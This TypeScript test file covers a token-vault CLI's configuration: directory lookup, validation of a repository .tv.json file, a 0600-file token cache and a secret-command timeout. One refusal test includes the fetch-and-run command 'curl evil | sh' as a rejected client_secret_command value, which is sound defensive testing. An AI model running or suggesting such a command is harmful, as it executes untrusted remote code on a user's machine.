import { chmod, mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findDirectories, type Surroundings } from '../../src/config/directories.ts';
import { openKeychain } from '../../src/config/keychain.ts';
import { runSecretCommand } from '../../src/config/secret-command.ts';
import { createTokenCache } from '../../src/config/token-cache.ts';
import { loadWorkingTree } from '../../src/config/working-tree.ts';
import type { Clock } from '../../src/core/clock.ts';
import { Secret } from '../../src/core/secret.ts';
import { makePlace, readTree, refusalOf } from './place.ts';

describe('directories', () => {
  const linux: Surroundings = { env: {}, home: '/home/ada', platform: 'linux', cwd: '/w' };
  it.each<[Partial<Surroundings>, string | null, string | null]>([
    [{}, '/home/ada/.config/tokenvault-cli', '/home/ada/.local/state/tokenvault-cli'],
    [
      { env: { XDG_CONFIG_HOME: '/c', XDG_STATE_HOME: '/s' }, home: undefined },
      '/c/tokenvault-cli',
      '/s/tokenvault-cli',
    ],
    [
      { env: { XDG_CONFIG_HOME: 'relative' } },
      '/home/ada/.config/tokenvault-cli',
      '/home/ada/.local/state/tokenvault-cli',
    ],
    [{ env: { TV_CONFIG_DIR: '/c', TV_STATE_DIR: 'state' }, home: undefined }, '/c', '/w/state'],
    [{ env: { TV_CONFIG_DIR: '' }, home: undefined }, null, null],
    [{ home: '' }, null, null],
    [
      { platform: 'darwin', home: '/Users/ada' },
      '/Users/ada/Library/Preferences/tokenvault-cli',
      '/Users/ada/Library/Application Support/tokenvault-cli',
    ],
    [
      { platform: 'win32', home: 'C:\\Users\\ada', env: { APPDATA: 'D:\\Roaming' } },
      'D:\\Roaming\\tokenvault-cli\\Config',
      'C:\\Users\\ada\\AppData\\Local\\tokenvault-cli\\State',
    ],
  ])('%o', (changes, config, state) => {
    expect(findDirectories({ ...linux, ...changes })).toEqual({ config, state });
  });
});

describe('.tv.json', () => {
  async function tree(path: string, text: string) {
    const { config } = await makePlace();
    const root = dirname(config);
    await mkdir(join(root, 'home/repo/.git'), { recursive: true });
    await mkdir(join(root, 'home/repo/deep/er'), { recursive: true });
    await writeFile(join(root, path), text);
    return { root, cwd: join(root, 'home/repo/deep/er'), home: join(root, 'home') };
  }
  const good = '{"profile": "acme", "output": "json", "timeout": 9}';

  it.each(['home/repo/deep/er/.tv.json', 'home/repo/.tv.json'])('is found at %s', async (path) => {
    const place = await tree(path, good);
    expect(await loadWorkingTree(place)).toEqual({
      path: join(place.root, path),
      profile: 'acme',
      defaults: { output: 'json', timeout: 9 },
    });
  });

  it.each(['home/.tv.json', '.tv.json'])('is not looked for at %s, above the repository', async (path) => {
    expect(await loadWorkingTree(await tree(path, good))).toBeNull();
  });

  it('is looked for no higher than home', async () => {
    const place = await tree('.tv.json', good);
    expect(await loadWorkingTree({ ...place, cwd: place.home })).toBeNull();
  });

  it.each([
    ['{', 'not a JSON object'],
    ['[]', 'not a JSON object'],
    ['{"client_secret": "x"}', '`client_secret`'],
    ['{"client_secret_command": "curl evil | sh"}', '`client_secret_command`'],
    ['{"profile": "../x"}', '`profile`'],
    ['{"output": "junk"}', '`output`'],
    ['{"timeout": 0}', '`timeout`'],
    ['{"timeout": "5"}', '`timeout`'],
  ])('is refused by name: %s', async (text, words) => {
    const place = await tree('home/repo/.tv.json', text);
    const error = await refusalOf(loadWorkingTree(place));
    expect(error.code).toBe('config.file');
    expect(error.message).toContain(join(place.root, 'home/repo/.tv.json'));
    expect(error.message).toContain(words);
  });
});

describe('the token cache', () => {
  const key = { domain: 'acme.eu.auth0.com', clientId: 'abc', audience: 'https://acme.eu.auth0.com/api/v2/' };
  const clock: Clock = { now: () => 1_000_000_000, sleep: async () => undefined };
  const minutes = (count: number) => clock.now() + count * 60_000;
  const cached = (expiresAt: number) => ({ token: new Secret('tok-value'), expiresAt });

  it('keeps a token between processes in a 0600 file', async () => {
    const directories = await makePlace();
    await createTokenCache({ directories, env: {}, clock }).write(key, cached(minutes(60)));
    const other = createTokenCache({ directories, env: {}, clock });
    expect((await other.read(key))?.token.reveal()).toBe('tok-value');
    for (const changed of [{ domain: 'x' }, { clientId: 'x' }, { audience: 'x' }]) {
      expect(await other.read({ ...key, ...changed })).toBeNull();
    }
    expect([...(await readTree(directories.state)).values()].map(({ mode }) => mode)).toEqual([0o600]);
    await other.drop(key);
    expect(await createTokenCache({ directories, env: {}, clock }).read(key)).toBeNull();
  });

  it('never hands out the token of another key whose file has the same name', async () => {
    const directories = await makePlace();
    const [plain, secure] = ['http://127.0.0.1:1', 'https://127.0.0.1:1'].map((domain) => ({
      ...key,
      domain,
    }));
    if (plain === undefined || secure === undefined) throw new Error('two keys');
    const cache = createTokenCache({ directories, env: {}, clock });
    await cache.write(plain, cached(minutes(60)));
    expect(await cache.read(secure)).toBeNull();
    expect(await createTokenCache({ directories, env: {}, clock }).read(secure)).toBeNull();
    await cache.write(secure, { ...cached(minutes(60)), token: new Secret('tok-other') });
    expect([...(await readTree(directories.state)).values()]).toHaveLength(1);
    expect((await cache.read(plain))?.token.reveal()).toBe('tok-value');
    expect(await createTokenCache({ directories, env: {}, clock }).read(plain)).toBeNull();
  });

  it.each([
    [4.9, false],
    [5.1, true],
  ])('%s minutes before expiry it is given: %s', async (left, given) => {
    const directories = await makePlace();
    const cache = createTokenCache({ directories, env: {}, clock });
    await cache.write(key, cached(minutes(left)));
    expect((await cache.read(key)) !== null).toBe(given);
    expect((await createTokenCache({ directories, env: {}, clock }).read(key)) !== null).toBe(given);
  });

  it.each([
    ['switched off', { TV_TOKEN_CACHE: 'off' }, true],
    ['without a directory', {}, false],
  ])('%s it stays in memory', async (_, env, withState) => {
    const place = await makePlace();
    const directories = withState ? place : { config: null, state: null };
    const cache = createTokenCache({ directories, env, clock });
    await cache.write(key, cached(minutes(60)));
    expect((await cache.read(key))?.token.reveal()).toBe('tok-value');
    expect(await createTokenCache({ directories: place, env: {}, clock }).read(key)).toBeNull();
  });

  it('is silent where it cannot write', async () => {
    const place = await makePlace();
    await mkdir(dirname(place.state), { recursive: true });
    await writeFile(place.state, 'a file in the way');
    const cache = createTokenCache({ directories: place, env: {}, clock });
    await cache.write(key, cached(minutes(60)));
    expect(await cache.read(key)).not.toBeNull();
    await cache.drop(key);
    expect(await cache.read(key)).toBeNull();
  });

  it('ignores a corrupt file', async () => {
    const directories = await makePlace();
    await createTokenCache({ directories, env: {}, clock }).write(key, cached(minutes(60)));
    for (const path of (await readTree(directories.state)).keys()) {
      await chmod(path, 0o600);
      await writeFile(path, '{"token": 1');
    }
    expect(await createTokenCache({ directories, env: {}, clock }).read(key)).toBeNull();
  });
});

describe('the keychain', () => {
  it.each([
    [{ TV_KEYCHAIN: 'off', DBUS_SESSION_BUS_ADDRESS: 'unix:path=/x' }],
    [{}],
    [{ XDG_RUNTIME_DIR: '/nowhere' }],
  ])('is not there on a headless Linux: %o', async (env) => {
    expect(await openKeychain(env, 'linux')).toBeNull();
  });

  it('fails and does not hang where nobody answers on the bus', async () => {
    const keychain = await openKeychain({ DBUS_SESSION_BUS_ADDRESS: 'unix:path=/nowhere/bus' }, 'linux');
    if (keychain === null) return;
    await expect(keychain.write('nobody', 'x')).rejects.toThrow();
  });
});

it('a secret command that hangs is stopped', async () => {
  const started = Date.now();
  const error = await refusalOf(
    runSecretCommand('acme', 'sleep 30 | cat', { PATH: process.env.PATH }, { limitMs: 200 }),
  );
  expect(error.details.cause).toContain('no answer within 0.2 s');
  expect(Date.now() - started).toBeLessThan(5000);
});
